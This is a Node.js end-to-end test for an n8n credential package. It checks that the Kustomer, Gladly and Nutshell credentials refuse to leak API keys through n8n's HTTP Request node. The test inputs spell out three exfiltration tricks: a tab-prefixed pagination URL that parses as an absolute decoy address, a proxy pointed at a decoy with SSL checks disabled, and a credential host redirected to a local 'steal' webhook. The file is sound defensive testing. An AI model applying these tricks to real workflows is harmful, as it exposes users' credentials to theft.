#!/usr/bin/env node
'use strict';
/**
 * End-to-end in REAL n8n 2.41.1: n8n's own HTTP Request node (n8n-nodes-base.httpRequest 4.2) with each
 * predefined credential of this package tries to send the key elsewhere, as a workflow editor could:
 *   (a) pagination "Next URL" = "\thttp://<decoy>/" (WHATWG URL strips the tab: an absolute URL),
 *   (b) Options › Proxy = the decoy, with Ignore SSL Issues,
 *   (c) the credential's host field edited to n8n's own address, calling one of n8n's own webhooks.
 * The decoy and n8n's webhook must receive nothing, and the node must fail naming the refused target
 * or option. The fake providers are reached as in production: https to the apps' hosts, here through
 * the sandbox's HTTPS proxy (HTTPS_PROXY / NODE_EXTRA_CA_CERTS in n8n's environment).
 *
 *   node test/e2e/credential-guard.e2e.js [--keep] [--skip-build]
 *
 * Ends with "N passed, N failed"; exit 1 on any failure.
 */
const fs = require('fs');
const os = require('os');
const path = require('path');

const root = path.resolve(__dirname, '..', '..');
const { ensureN8n } = require(path.join(root, 'scripts', 'n8n', 'install'));
const { buildAndPack, createInstance, setupOwnerAndLogin, rest } = require(
	path.join(root, 'scripts', 'n8n', 'instance'),
);
const { makeLogger, rmrf, sleep } = require(path.join(root, 'scripts', 'n8n', 'util'));
const { startSandbox } = require(path.join(root, 'test', 'sandbox'));
const { startDecoy } = require(path.join(root, 'test', 'harness', 'decoy'));
const demo = require('./demo');

const argv = new Set(process.argv.slice(2));
const log = makeLogger('e2e-guard');
const results = [];

function check(name, ok, detail = '') {
	results.push({ name, ok: Boolean(ok) });
	log(
		`${ok ? 'PASS' : 'FAIL'} ${name}${!ok && detail ? `: ${String(detail).slice(0, 2500)}` : ''}`,
	);
	return Boolean(ok);
}

/** One app: the demo credential, an endpoint on its origin, and its credential with the host edited. */
const APPS = {
	kustomer: {
		type: 'kustomerApi',
		name: 'Kustomer',
		path: '/v1/customers',
		edited: (url) => ({ region: 'custom', orgName: '', baseUrl: url }),
	},
	gladly: {
		type: 'gladlyApi',
		name: 'Gladly',
		path: '/api/v1/organization',
		edited: (url) => ({ organization: '', baseUrl: url }),
	},
	nutshell: {
		type: 'nutshellApi',
		name: 'Nutshell',
		path: '/rest/users',
		edited: (url) => ({ baseUrl: url }),
	},
};

const STEAL_PATH = 'kgn-guard-steal';

function httpRequestWorkflow(id, credential, url, options) {
	return {
		id,
		name: id,
		active: false,
		settings: {},
		nodes: [
			{
				id: 'manual',
				name: 'Manual',
				type: 'n8n-nodes-base.manualTrigger',
				typeVersion: 1,
				position: [0, 0],
				parameters: {},
			},
			{
				id: 'http',
				name: 'HTTP Request',
				type: 'n8n-nodes-base.httpRequest',
				typeVersion: 4.2,
				position: [220, 0],
				parameters: {
					url,
					authentication: 'predefinedCredentialType',
					nodeCredentialType: credential.type,
					options,
				},
				credentials: { [credential.type]: { id: credential.id, name: credential.name } },
			},
		],
		connections: { Manual: { main: [[{ node: 'HTTP Request', type: 'main', index: 0 }]] } },
	};
}

const WEBHOOK_WF = {
	id: 'kgnGuardWebhook',
	name: 'guard: n8n own webhook',
	active: false,
	settings: {},
	nodes: [
		{
			id: 'hook',
			name: 'Webhook',
			type: 'n8n-nodes-base.webhook',
			typeVersion: 2,
			position: [0, 0],
			webhookId: 'f0e1d2c3-b4a5-4697-8877-665544332211',
			parameters: { path: STEAL_PATH, httpMethod: 'GET', responseMode: 'onReceived', options: {} },
		},
	],
	connections: {},
};

function errorText(runResult) {
	const e = runResult.error;
	if (!e) return '';
	return [e.message, e.description, e.node && e.node.name].filter(Boolean).join(' | ');
}

async function main() {
	const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'kgn-e2e-guard-'));
	const sb = await startSandbox({ rateLimits: false });
	const decoy = await startDecoy();
	let inst;
	let ok = true;
	try {
		const tarball = await buildAndPack(root, tmp, { build: !argv.has('--skip-build') });
		const n8n = await ensureN8n({ version: '2.41.1' });
		inst = await createInstance({ n8n, log: makeLogger(`n8n ${n8n.version}`) });
		await inst.installPackage(tarball);
		const creds = demo.demoCredentials(sb.urls());
		const main = await inst.start();
		const edited = Object.values(APPS).map((app) => {
			const base = creds.find((c) => c.type === app.type);
			return {
				id: `kgnGuardEdit${app.name}`,
				name: `${app.name} (host edited)`,
				type: app.type,
				data: { ...base.data, ...app.edited(main.baseUrl) },
			};
		});
		await inst.importCredentials([...creds, ...edited]);

		const workflows = [WEBHOOK_WF];
		const cases = [];
		const d = `127.0.0.1:${decoy.port}`;
		for (const [id, app] of Object.entries(APPS)) {
			const credential = creds.find((c) => c.type === app.type);
			const url = `${sb.url(id)}${app.path}`;
			cases.push({
				label: `${app.name}: pagination Next URL "\\thttp://<decoy>/"`,
				workflow: httpRequestWorkflow(`kgnGuard${id}A`, credential, url, {
					pagination: {
						pagination: {
							paginationMode: 'responseContainsNextURL',
							// Page 1 is the app's own URL (proves the proxy and CA work in n8n); page 2 the tab-prefixed decoy.
							nextURL: `={{ $pageCount >= 1 ? "\\thttp://${d}/page2" : ${JSON.stringify(url)} }}`,
							paginationCompleteWhen: 'other',
							completeExpression: '={{ $pageCount >= 3 }}',
							limitPagesFetched: true,
							maxRequests: 3,
						},
					},
				}),
				names: /credentials (can only be sent to|refused)[\s\S]*\\thttp:\/\/127\.0\.0\.1/,
				firstPage: { provider: id, path: app.path },
			});
			cases.push({
				label: `${app.name}: Proxy = decoy with Ignore SSL Issues`,
				workflow: httpRequestWorkflow(`kgnGuard${id}B`, credential, url, {
					proxy: `http://${d}`,
					allowUnauthorizedCerts: true,
				}),
				names: /credentials refused the request option "proxy"/,
			});
			const editedCredential = edited.find((c) => c.type === app.type);
			cases.push({
				label: `${app.name}: credential host edited to n8n's own address (${main.baseUrl})`,
				workflow: httpRequestWorkflow(
					`kgnGuard${id}C`,
					editedCredential,
					`${main.baseUrl}/webhook/${STEAL_PATH}`,
					{},
				),
				names: new RegExp(
					`${app.name} Base URL "${main.baseUrl.replace(/[.]/g, '\\.')}" must start with https://`,
				),
			});
		}
		workflows.push(...cases.map((c) => c.workflow));
		await inst.importWorkflow(workflows);

		const { cookie } = await setupOwnerAndLogin(main.baseUrl);
		const wf = await rest(main.baseUrl, 'GET', `/rest/workflows/${WEBHOOK_WF.id}`, { cookie });
		const act = await rest(main.baseUrl, 'POST', `/rest/workflows/${WEBHOOK_WF.id}/activate`, {
			cookie,
			body: { versionId: wf.data.versionId },
		});
		ok =
			check(
				"n8n 2.41.1: a Webhook workflow listens on n8n's own address",
				act.status === 200,
				`${act.status} ${act.body.slice(0, 500)}`,
			) && ok;
		let probe = { status: 0 };
		for (let i = 0; i < 30 && probe.status !== 200; i++) {
			if (i) await sleep(1000);
			probe = await fetch(`${main.baseUrl}/webhook/${STEAL_PATH}`);
		}
		ok =
			check(
				`n8n's webhook ${STEAL_PATH} answers (so a request with the key would have landed)`,
				probe.status === 200,
				String(probe.status),
			) && ok;
		await sleep(1000);
		const executionsOf = async () => {
			const r = await rest(
				main.baseUrl,
				'GET',
				`/rest/executions?filter=${encodeURIComponent(JSON.stringify({ workflowId: WEBHOOK_WF.id }))}`,
				{ cookie },
			);
			return ((r.data && r.data.results) || []).length;
		};
		const baseline = await executionsOf();

		for (const c of cases) {
			sb.clearRequests();
			decoy.reset();
			const result = await inst.execute(c.workflow.id);
			const text = errorText(result);
			ok =
				check(
					`${c.label}: the node fails naming the refused target or option`,
					!result.ok && c.names.test(text),
					`ok=${result.ok}; ${text || result.stderr?.slice(-1500)}`,
				) && ok;
			ok =
				check(
					`${c.label}: the decoy received nothing`,
					decoy.connections.length === 0,
					decoy.received().slice(0, 400),
				) && ok;
			if (c.firstPage) {
				const first = sb.requestsFor(c.firstPage.provider)[0];
				const detail = first
					? `${first.method} ${first.path} host=${first.headers.host} auth=${Boolean(first.headers.authorization)}`
					: 'no request';
				ok =
					check(
						`${c.label}: page 1 reached the fake provider at its https host with the key`,
						first &&
							first.path === c.firstPage.path &&
							first.headers.host === new URL(sb.url(c.firstPage.provider)).host &&
							Boolean(first.headers.authorization),
						detail,
					) && ok;
			}
		}
		await sleep(1000);
		const after = await executionsOf();
		ok =
			check(
				"n8n's own webhook received nothing from the edited credentials",
				after === baseline,
				`${baseline} -> ${after} executions`,
			) && ok;
		await inst.stop();
	} catch (e) {
		ok = check('no unexpected error', false, e.stack || String(e)) && ok;
	} finally {
		if (inst) await inst.cleanup({ keep: argv.has('--keep') || !ok });
		await decoy.close();
		await sb.close();
		rmrf(tmp);
	}
	const passed = results.filter((r) => r.ok).length;
	const failed = results.length - passed;
	process.stdout.write(`\n${passed} passed, ${failed} failed\n`);
	process.exit(failed === 0 ? 0 : 1);
}

main();
